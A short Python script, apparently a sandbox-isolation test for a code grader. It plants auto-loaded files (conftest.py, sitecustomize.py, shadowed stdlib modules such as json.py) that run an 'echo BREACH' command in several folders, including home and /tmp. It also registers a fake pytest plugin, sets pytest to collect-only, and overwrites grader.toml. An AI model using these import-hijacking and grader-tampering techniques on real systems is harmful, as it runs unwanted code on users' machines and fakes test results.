# Puts modules and settings beside itself that a marker might load.
# needs: isolation
import os

CODE = "import os; os.system('echo BREACH'); print('BREACH')\n"
for name in ("conftest.py", "sitecustomize.py", "usercustomize.py", "random.py", "asyncio.py", "pytest.py", "json.py"):
    for folder in (".", "..", "/tmp", os.path.expanduser("~")):
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write(CODE)
        except OSError:
            pass
try:
    os.makedirs("evil-1.0.dist-info")
    with open("evil-1.0.dist-info/entry_points.txt", "w") as file:
        file.write("[pytest11]\nevil = conftest\n")
    with open("pytest.ini", "w") as file:
        file.write("[pytest]\naddopts = --collect-only\n")
    with open("grader.toml", "w") as file:
        file.write("exercises = '.'\n")
except OSError:
    pass
